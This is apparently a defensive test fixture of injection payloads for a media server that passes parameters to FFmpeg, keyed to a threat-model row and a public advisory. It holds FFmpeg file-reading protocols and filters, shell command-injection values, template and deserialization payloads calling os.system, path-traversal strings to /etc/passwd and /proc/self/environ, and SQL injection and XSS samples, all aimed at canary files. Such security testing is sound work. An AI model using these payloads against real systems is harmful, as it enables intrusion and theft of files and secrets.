"""Strings that are given for a parameter, and hope to be read as something else: row F5 of the threat model.

The shapes for FFmpeg follow the public advisory GHSA-866x-wj5j-2vf4 (arguments and filter options given through
parameters of a media server's API) and FFmpeg's own documentation of protocols and filter graphs.
"""

from __future__ import annotations

READS = """
file:{file}
{file}
file://{file}
FILE:{file}
crypto:{file}
crypto+file:{file}
subfile,,start,0,end,64,,:{file}
concat:{file}|{file}
concatf:{file}
async:{file}
cache:file:{file}
tee:{file}
pipe:0
fd:0
data:text/plain;base64,aGVsbG8=
data:,x
http://{server}/read
https://{server}/read
tcp://{server}
udp://{server}
rtp://{server}
rtmp://{server}/a
rtsp://{server}/a
ftp://{server}/a
gopher://{server}/_x
sftp://{server}/a
srt://{server}
hls+file:{file}
hls+http://{server}/a.m3u8
ipfs://bafkqaaa
unix:{file}
lavfi:movie={file}
lavfi:amovie={file}
movie={file}
amovie={file}
movie=filename={file}[a]
movie='{file}':loop=0
lut3d={file}
lut3d=file={file}
lut1d=file={file}
haldclut={file}
subtitles={file}
subtitles=filename={file}:force_style=x
ass={file}
drawtext=textfile={file}
drawtext=textfile={file}:reload=1:fontcolor=white
drawtext=fontfile={file}:text=a
drawtext=text='%{{file\\:{file}}}'
vidstabtransform=input={file}
removelogo={file}
find_rect={file}
signature=filename={folder}/written
psnr=stats_file={folder}/written
ssim=stats_file={folder}/written
vidstabdetect=result={folder}/written
metadata=print:file={folder}/written
ametadata=mode=print:file={folder}/written
sendcmd=f={file}
sendcmd=c='0 hue h {file}'
zmq=bind_address=tcp\\\\://{server}
azmq
dnn_processing=model={file}
sr=model={file}
arnndn=m={file}
afir=irnorm=1
ladspa=file={file}
lv2=plugin=http\\\\://{server}/x
frei0r={file}
libplacebo=custom_shader_path={file}
tonemap_opencl
program_opencl=source={file}
geq=lum='p(X,Y)'
select='eq(n,0)'
"""
"""Protocols, and filters that open what their options name."""

GRAPH = """
[in]
[in][out]
[0:v]null[out]
[in]null[a];[a]movie={file}[out]
null;movie={file}
null,movie={file}
0:a=1
1:enable='gte(t,0)'
1:eval=frame
5,lut3d={file}
5[out];movie={file},format=yuv420p[out2]
4:sigma=9
10'
10\\'
'10
10\\\\
\\\\'
10:'
10;
10,
10:
,
;
:
[
]
[]
'
\\
=
=1
@
#
|
%
&
"""
"""Syntax of filter graphs and options."""

ARGUMENTS = """
-i {file}
-i
--
-
-y {folder}/written
-f lavfi -i movie={file}
-f concat -safe 0 -i {file}
-vf movie={file}
-filter_complex movie={file}
-filter_complex_script {file}
-/filter_complex {file}
-attach {file}
-dump_attachment:t {folder}/written
-protocol_whitelist file,http,tcp
-passlogfile {folder}/written
-vstats_file {folder}/written
-report
-progress http://{server}/
-map 0 -c copy -f data {folder}/written
-init_hw_device vaapi=foo:{file}
-hwaccel vaapi
-c:v libx264 -y {folder}/written
h264 -i {file}
h264" -i "{file}
h264' -i '{file}
h264\t-i\t{file}
libx264
libx264rgb
rawvideo
copy
h264_nvenc
h264_v4l2m2m
h264,aac
h264:stats={folder}/written
yuv420p,movie={file}
yuv420p -f data {folder}/written
stats={folder}/written
passlogfile={folder}/written
qpfile={file}
x264-params=stats={folder}/written:pass=1
crf=0:qpfile={file}
"""
"""Arguments of a command line, codecs, and options of codecs (GHSA-866x-wj5j-2vf4: videoCodec, audioCodec, and
others that were appended to a command)."""

SHELL = """
; touch {folder}/written
| touch {folder}/written
|| touch {folder}/written
& touch {folder}/written
&& touch {folder}/written
$(touch {folder}/written)
`touch {folder}/written`
$(cat {file})
> {folder}/written
< {file}
a' ; touch {folder}/written ; '
a" ; touch {folder}/written ; "
${{IFS}}touch${{IFS}}{folder}/written
$HOME
${{HOME}}
~
*
%COMSPEC%
"""

TEMPLATES = """
{{{{7*7}}}}
{{{{config}}}}
{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}
{{% include '{file}' %}}
{{% import os %}}{{{{ os.system('touch {folder}/written') }}}}
${{7*7}}
#{{7*7}}
<%= 7*7 %>
<% File.read('{file}') %>
{{0}}
{{0.__class__}}
{{config.__class__.__init__.__globals__}}
{{self}}
%s
%s%s%s%s%n
%n
%x%x%x%x
%d
%09999999d
%(name)s
%{{pts}}
%{{localtime}}
%{{metadata:title}}
%{{expr:1+1}}
%{{eif\\:t\\:d}}
%{{gmtime:%s}}
$params.size
$params
${{params.size}}
__import__('os').system('touch {folder}/written')
eval(open('{file}').read())
lambda: 0
!!python/object/apply:os.system ['touch {folder}/written']
*alias
&anchor x
"""

PATHS = """
../../../../../../{file}
..
../..
/
/etc/passwd
/proc/self/environ
/proc/self/fd/0
/dev/stdin
/dev/zero
/dev/tty
C:\\Windows\\win.ini
\\\\{server}\\share\\a
//{server}/share
%2e%2e%2f%2e%2e%2fetc%2fpasswd
..%00/
....//....//
@{file}
@/etc/passwd
"""

WORDS = """
None
nan
NaN
inf
-inf
1e999
0x41
1_000
1,5
1/0
1;2
t
n
random(0)
if(gte(t,1),1,0)
ld(0)
sin(t)*100
iw/2
main_w-overlay_w
in_h
PI
gray' or '1'='1
'; DROP TABLE runs; --
' UNION SELECT token FROM tokens --
<script>alert(1)</script>
<!ENTITY x SYSTEM "file://{file}">
red@0.5
#ffffff80
#fff
white:t=fill
left,movie={file}
left]
LEFT
left\u0000
left\u202e
ｌｅｆｔ
lеft
"""
"""Expressions of FFmpeg, other languages, and words that are nearly right."""

LONG = ("A" * 100_000, "9" * 100_000, "[" * 5000, "%s" * 5000, "../" * 5000 + "etc/passwd", "\u0301" * 5000)


def payloads(folder: str, server: str) -> list[str]:
    """All of them, for a file ``canary`` and a file ``written`` in a folder, and an address ``host:port``."""
    groups = (READS, GRAPH, ARGUMENTS, SHELL, TEMPLATES, PATHS, WORDS)
    lines = [line for group in groups for line in group.strip("\n").split("\n")]
    found = [line.format(file=f"{folder}/canary", folder=folder, server=server) for line in lines]
    controls = ["a\nb", "a\r\nb", f"a\n-i {folder}/canary", "a\0b", "a\x1b[2Jb", "\ufeff", " ", "", "\t"]
    return list(dict.fromkeys([*found, *controls, *LONG]))
